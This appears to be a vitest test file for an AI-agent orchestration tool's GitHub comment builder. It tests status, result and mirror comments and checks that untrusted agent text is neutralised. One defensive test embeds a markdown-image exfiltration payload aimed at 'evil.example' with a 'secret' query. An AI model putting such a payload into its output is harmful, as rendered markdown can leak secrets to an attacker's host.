import { parseBranchName, parseTaskId, unwrap, type TaskState } from "@orch/core";
import { neutraliseOutput as neutral, signMarker } from "@orch/security";
import { array, assert, constantFrom, property } from "fast-check";
import { describe, expect, it, test } from "vitest";

import {
  LONGEST_COMMENT,
  mirrorComment,
  responseMark,
  resultComment,
  statusComment,
  waitingComment,
} from "../src/index.ts";
import { assignment, commit, madeAttempt, madeReceipt, madeTask, SPOOFS } from "./made.ts";
import { key, place, works } from "./works.ts";

const now = Date.UTC(2026, 10, 26, 23, 5);

test("the status of a running task", () => {
  const task = madeTask({ status: "in_progress", assignment, attempt: 1 });
  const { endedAt: _, ...attempt } = madeAttempt({ startedAt: now - 754_000 });
  const text = statusComment(
    {
      task,
      attempt,
      usage: attempt.usage,
      budgetMs: 1_800_000,
      lastEvent: { text: "The agent runs `npm test`.", at: now - 60_000 },
      notes: ['label "budget:soon" can\'t be read'],
      now,
    },
    { neutral },
  );
  expect(text).toMatchInlineSnapshot(`
    "### orch: an agent works on it

    |  |  |
    | --- | --- |
    | State | \`in_progress\` |
    | Agent | 🟢 codex (\`gpt-5\`) |
    | Why this agent | its turn |
    | Running for | 13 min |
    | Time left | 17 min |
    | Watch | \`orch task attach acme/shop#12\` |
    | Speak to it | \`orch task send acme/shop#12 "…"\` |
    | Attempts | 1 |
    | Used | 13,000 tokens, $0.42 |
    | Branch | \`gh-task-12-mend-the-door\` |

    Last: The agent runs \`npm test\`. (2026-11-26 23:04 UTC)

    - label "budget:soon" can't be read

    What you can do, in a comment:
    - \`/context <text>\` tells it something
    - \`/block\` stops it"
  `);
  expect(works(text)).toEqual([]);
});

test.each<TaskState>([
  { status: "new" },
  { status: "routed", assignment },
  {
    status: "routed",
    assignment,
    waiting: { agent: assignment.agent, reason: "usage_limited", until: now },
  },
  { status: "blocked", waitingFor: [unwrap(parseTaskId("3")), unwrap(parseTaskId("int-4"))] },
  { status: "needs_review", reason: "agent_asked", detail: "Which colour? @ann knows" },
  {
    status: "in_review",
    result: {
      branch: unwrap(parseBranchName("gh-task-12-mend-the-door")),
      commit,
      attempt: 1,
      base: unwrap(parseBranchName("main")),
      checks: 1,
    },
  },
  { status: "cancelled", why: "not wanted" },
])("the status of a task that is $status tells what people can do", (state) => {
  const text = statusComment({ task: madeTask(state), pull: { number: 34, url: "" }, now }, { neutral });
  expect(text).toMatchSnapshot();
  expect(works(text)).toEqual([]);
});

test("the status says why nothing but a person merges a result, whatever a file is called", () => {
  const branch = unwrap(parseBranchName("main"));
  const cautions = [{ kind: "script", files: ["package.json: scripts", "@ann/<img>"], count: 7 }] as const;
  const result = { branch, base: branch, commit, attempt: 1, checks: 1, cautions };
  const text = statusComment({ task: madeTask({ status: "in_review", result }), now }, { neutral });
  expect(text).toContain("A person merges it, for it changes what package managers run (package.json: scripts, ");
  expect(text).toContain(", and 5 more).");
  expect(works(text)).toEqual([]);
});

test("what waits for an approval says how to give it", () => {
  const shown = { hash: "a".repeat(64), comments: [] };
  const text = waitingComment({ kind: "wait", why: "stranger", shown, command: "/approve aaaaaaaaaaaa" });
  expect(text).toContain("`/approve aaaaaaaaaaaa`");
  expect(works(text)).toEqual([]);
});

describe("the comment about an attempt", () => {
  const task = madeTask({ status: "new" });

  it("shows who did it, what came of it, and the proof", () => {
    const receipts = [
      madeReceipt(),
      madeReceipt({ check: "lint", exitCode: 2 }),
      madeReceipt({ check: "types", timedOut: true }),
      madeReceipt({ check: "docs", clean: false }),
    ];
    const text = resultComment({ task, attempt: madeAttempt({ errorTail: "done\n" }), receipts }, { neutral });
    expect(text).toMatchSnapshot();
    expect(works(text)).toEqual([]);
  });

  it("calls its owner when a person has to look, and then only", () => {
    const attempt = madeAttempt({ verdict: { kind: "human", reason: "agent_asked", detail: "Which colour?" } });
    const waits = madeTask({ status: "needs_review", reason: "agent_asked", detail: "Which colour?" });
    const called = resultComment({ task: waits, attempt, receipts: [], owner: "ann" }, { neutral });
    expect(called.match(/@\w+/g)).toEqual(["@ann"]);
    expect(resultComment({ task, attempt, receipts: [], owner: "ann" }, { neutral })).not.toContain("@ann");
  });

  it("leaves out whole parts of what does not fit, and says so", () => {
    const long = "x ".repeat(4000);
    const made = madeAttempt().report;
    if (made === undefined) throw new TypeError("the attempt has a report");
    const report = { ...made, accomplished: Array.from({ length: 60 }, () => long) };
    const files = Array.from({ length: 300 }, (_, index) => ({
      ...({ path: `${"long/".repeat(30)}${index}.ts`, change: "added", added: 1, deleted: 0, binary: false } as const),
    }));
    const attempt = madeAttempt({
      report: {
        ...report,
        remaining: report.accomplished,
        blockers: report.accomplished,
      },
      diff: { added: 300, deleted: 0, files },
      warnings: report.accomplished,
    });
    const text = resultComment(
      { task, attempt: { ...attempt, errorTail: "y\n".repeat(50_000) }, receipts: [madeReceipt()] },
      { neutral },
    );
    expect(text.length).toBeLessThanOrEqual(LONGEST_COMMENT);
    expect(text).toContain("and 30 more");
    expect(text.match(/<details>/g)?.length).toBe(text.match(/<\/details>/g)?.length);
    const marked = `${text}\n${signMarker(responseMark(task, 1), { key, place })}`;
    expect(marked.length).toBeLessThan(65_536);
  });
});

test("what is taken out before a fence does not let the fence begin", () => {
  const said = "<!-- a -->\n~~~\n![x](https://evil.example/?secret)";
  const made = madeAttempt().report;
  if (made === undefined) throw new TypeError("the attempt has a report");
  const attempt = madeAttempt({ report: { ...made, summary: said } });
  const text = resultComment(
    { task: madeTask({ status: "new" }), attempt: { ...attempt, errorTail: said }, receipts: [] },
    { neutral },
  );
  expect(works(text)).toEqual([]);
});

test("no words of an agent's or a stranger's work in a comment, whatever they are", { timeout: 120_000 }, () => {
  const words = array(constantFrom(...SPOOFS), { minLength: 1, maxLength: 4 });
  assert(
    property(words, (parts) => {
      const said = parts.join("\n");
      const attempt = madeAttempt({
        verdict: { kind: "human", reason: "agent_blocked", detail: said },
        report: {
          status: "blocked",
          summary: said,
          accomplished: parts,
          remaining: parts,
          files: parts,
          learnings: parts,
          blockers: parts,
          delegations: [],
          error: said,
        },
        diff: { added: 1, deleted: 0, files: [{ path: said, change: "added", added: 1, deleted: 0, binary: false }] },
        warnings: parts,
        model: said,
      });
      const task = madeTask({ status: "needs_review", reason: "agent_blocked", detail: said });
      const receipts = [madeReceipt({ check: said, argv: parts })];
      const lastEvent = { text: said, at: now };
      const texts = [
        resultComment({ task, attempt: { ...attempt, errorTail: said }, receipts }, { neutral }),
        statusComment({ task, attempt, lastEvent, notes: parts, now }, { neutral }),
        mirrorComment({ type: "text", text: said }, { mirror: "all", neutral }) ?? "",
        mirrorComment({ type: "permission:requested", id: "1", what: said }, { mirror: "all", neutral }) ?? "",
      ];
      for (const text of texts) expect(works(text)).toEqual([]);
    }),
    { numRuns: 100 },
  );
});

test.each([
  ["none", []],
  ["milestones", ["session:ready", "permission:requested", "permission:withdrawn", "error"]],
  ["all", ["session:ready", "permission:requested", "permission:withdrawn", "error", "text"]],
] as const)("mirroring %s makes comments of %j", (mirror, types) => {
  const events = [
    { type: "session:ready" },
    { type: "permission:requested", id: "1", what: "run rm" },
    { type: "permission:withdrawn", id: "1" },
    { type: "error", failure: { class: "network", message: "no answer" } },
    { type: "text", text: "I look at the door." },
    { type: "text", text: "  " },
    { type: "reasoning", text: "hm" },
  ] as const;
  const mirrored = events.filter((event) => mirrorComment(event, { mirror, neutral }) !== undefined);
  expect(mirrored.map(({ type }) => type)).toEqual(types);
});
